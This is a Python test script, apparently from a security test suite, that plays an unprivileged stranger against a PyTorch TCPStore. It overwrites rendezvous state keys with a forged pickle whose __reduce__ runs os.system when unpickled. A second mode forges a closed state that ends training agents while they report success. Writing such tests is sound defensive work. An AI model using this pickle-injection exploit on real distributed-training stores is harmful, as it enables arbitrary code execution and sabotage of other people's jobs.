"""The stranger of the store tests: drops to uid/gid 65534 (nobody) before it touches the
store, then writes a forged rendezvous state whose unpickling would create MARKER.

    python stranger.py HOST:PORT[,HOST:PORT...] MARKER [code|graceful]
        -> prints "uid=65534 wrote <key>" or "no state key"

``graceful`` forges a well-formed state instead, made only of the classes a genuine one has:
the live state, read from the store, with ``closed=True`` and every node among the spares
(torch then ends each agent as a graceful exit: a step that "succeeds" without training).
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import sys
import threading
import time

from torch.distributed import TCPStore  # imported while still root: nobody cannot read the venv


class Payload:
    """What an attacker would send: unpickling it runs a command."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {self.marker}",)


def _closed(current: bytes) -> bytes:
    """The live state, closed, with every node it knows among the spares."""
    raw = base64.b64decode(current)
    prefix = b"torchstep-hmac-sha256:"  # a signed state: the pickle follows the 32-byte MAC
    state = pickle.loads(raw[len(prefix) + 32 :] if raw.startswith(prefix) else raw)
    nodes = set(state.participants) | set(state.wait_list) | set(state.last_heartbeats)
    state.closed = True
    state.redundancy_list |= nodes
    return pickle.dumps(state)


def main() -> None:
    endpoints, marker = sys.argv[1].split(","), sys.argv[2]
    mode = sys.argv[3] if len(sys.argv) > 3 else "code"
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    stores: list[TCPStore] = []

    def connect(endpoint: str) -> None:
        host, port = endpoint.rsplit(":", 1)
        try:
            store = TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=3))
            store.list_keys()
            stores.append(store)
        except Exception:  # not a store: next
            pass

    # a listener that is no store (gloo's) may never answer the handshake: one thread each
    threads = [threading.Thread(target=connect, args=(e,), daemon=True) for e in endpoints]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for store in stores:
            keys = [k for k in store.list_keys() if k.startswith("torch.rendezvous.") and "/" not in k]
            if not keys:
                continue
            for key in keys:
                if mode == "graceful":
                    forged = base64.b64encode(_closed(store.get(key))).decode()
                else:
                    forged = base64.b64encode(pickle.dumps(Payload(marker))).decode()
                store.set(key, forged)
            print(f"uid={os.getuid()} wrote {' '.join(keys)}", flush=True)
            os._exit(0)
        time.sleep(0.2)
    print("no state key", flush=True)
    os._exit(0)  # threads stuck on a listener that is no store must not hold the exit


if __name__ == "__main__":
    main()
